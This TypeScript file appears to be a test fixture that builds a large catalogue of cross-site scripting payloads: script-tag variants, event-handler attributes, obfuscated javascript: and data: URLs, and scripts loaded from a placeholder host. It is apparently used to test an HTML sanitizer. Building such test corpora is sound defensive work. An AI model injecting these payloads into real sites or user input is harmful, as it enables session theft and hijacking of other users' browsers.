/** Scripts by every door that HTML has. */
import { attacks } from "./attack.ts";

const elements = attacks("script", {
  plain: "<script>RUN</script>",
  "from elsewhere": '<script src="EVIL"></script>',
  "without a scheme": "<script src=//HOST></script>",
  module: '<script type="module">RUN</script>',
  "module map": '<script type="importmap">{"imports":{"a":"EVIL"}}</script>',
  "in capitals, with a newline": "<SCRIPT\n>RUN</SCRIPT\n>",
  "a slash for a space": '<script/x src="EVIL"></script>',
  "never closed": "<script>RUN//",
  "in itself": "<scr<script>ipt>RUN</scr</script>ipt>",
  "in two halves": "<scr<x>ipt>RUN</script>",
  "with a null": "<scr\0ipt>RUN</script>",
  "two angles": "<<script>RUN//<</script>",
  "after a comment that ends early": "<!--><script>RUN</script>-->",
  "in a conditional comment": "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
  "in a comment with --!>": "<!-- --!><script>RUN</script> -->",
  "in CDATA": "<![CDATA[><script>RUN</script>]]>",
  "in a processing instruction": "<?xml version='1.0'?><script>RUN</script>",
  noscript: '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  "speculation rules": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL"]}]}</script>',
  "in a template with a shadow":
    '<div><template shadowrootmode="open"><script>RUN</script><img src="EVIL"></template></div>',
});

const events = [
  ["img src=x onerror=RUN", ""],
  ["img src=x:x onerror\n=RUN", ""],
  ["img/src=x/onerror=RUN", ""],
  ['img src="x` `<script>RUN</script>"` `', ""],
  ["body onload=RUN", ""],
  ["body onpageshow=RUN", ""],
  ["input onfocus=RUN autofocus", ""],
  ["select onfocus=RUN autofocus", "</select>"],
  ["textarea onfocus=RUN autofocus", "</textarea>"],
  ["keygen onfocus=RUN autofocus", ""],
  ["details open ontoggle=RUN", "<summary>x</summary></details>"],
  ["marquee onstart=RUN", "x</marquee>"],
  ["video onerror=RUN", "<source src=x></video>"],
  ["video src=x onloadstart=RUN", "</video>"],
  ["audio src=x onerror=RUN", "</audio>"],
  ["div onpointerover=RUN style=position:fixed;inset:0;z-index:9", "x</div>"],
  ["p onclick=RUN onmouseover=RUN", "x</p>"],
  ["a onauxclick=RUN href=#x", "x</a>"],
  ["div tabindex=0 id=x onfocus=RUN contenteditable", "x</div>"],
  ["div style='animation:x 1s' onanimationstart=RUN", "<style>@keyframes x{}</style></div>"],
  ["div style='transition:all 1s' ontransitionrun=RUN", "x</div>"],
  ["p onbeforecopy=RUN oncontentvisibilityautostatechange=RUN style=content-visibility:auto", "x</p>"],
  ["button popovertarget=x onclick=RUN", "x</button><div popover id=x onbeforetoggle=RUN>y</div>"],
  ["dialog open onclose=RUN oncancel=RUN", "x</dialog>"],
  ["object data=x onerror=RUN", "</object>"],
  ["style onload=RUN", "</style>"],
  ["link rel=stylesheet href=/x onerror=RUN", ""],
  ["script onerror=RUN src=/x", "</script>"],
  ["p title='\"><img src=x onerror=RUN>'", "x</p>"],
  ["p title=`><img src=x onerror=RUN>", "x</p>"],
] as const;

const handlers = events.map(([open, rest]) => ({
  name: `event: ${open.replace(/\s+/g, " ").slice(0, 50)}`,
  html: `<${open}>${rest}`,
}));

/** Each is a link that is clicked in the test. */
const urls = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  "  javascript:RUN",
  "java\nscript:RUN",
  "java&#x09;script:RUN",
  "jav&Tab;ascript:RUN",
  "&#106;avascript&colon;RUN",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN",
  "\x01javascript:RUN",
  "javascript://HOST/%0aRUN",
  "vbscript:RUN",
  "livescript:RUN",
  "data:text/html,<script>RUN</script>",
  "data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZT1bMV08L3NjcmlwdD4=",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
  "blob:https://example.test/0",
  "view-source:EVIL",
  "filesystem:https://example.test/x",
  "feed:javascript:RUN",
  "x-javascript:RUN",
].map((url) => ({
  name: `link: ${JSON.stringify(url).slice(1, 40)}`,
  html: `<a class=click href="${url.replaceAll('"', "&quot;")}">open</a>`,
}));

const elsewhere = attacks("javascript:", {
  "in a picture": '<img src="javascript:RUN">',
  "in lowsrc and dynsrc": '<img lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  "in a background": '<table background="javascript:RUN"><tr><td background="javascript:RUN">x</table>',
  "in an iframe": '<iframe src="javascript:RUN"></iframe>',
  "in a srcdoc": '<iframe srcdoc="<script>RUN</script>"></iframe>',
  "in an embed": '<embed src="javascript:RUN">',
  "in an action": '<form action="javascript:RUN"><input type=submit class=click value=x></form>',
  "in a formaction": '<form><button class=click formaction="javascript:RUN">x</button></form>',
  "in a base": '<base href="javascript:RUN//"><a class=click href="#x">x</a>',
  "in a refresh": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  "in an xlink": '<svg><a xlink:href="javascript:RUN"><text class=click y=20>x</text></a></svg>',
  "in a map": '<img usemap=#m width=9 height=9><map name=m><area shape=default href="javascript:RUN"></map>',
});

export const scripts = [...elements, ...handlers, ...urls, ...elsewhere];
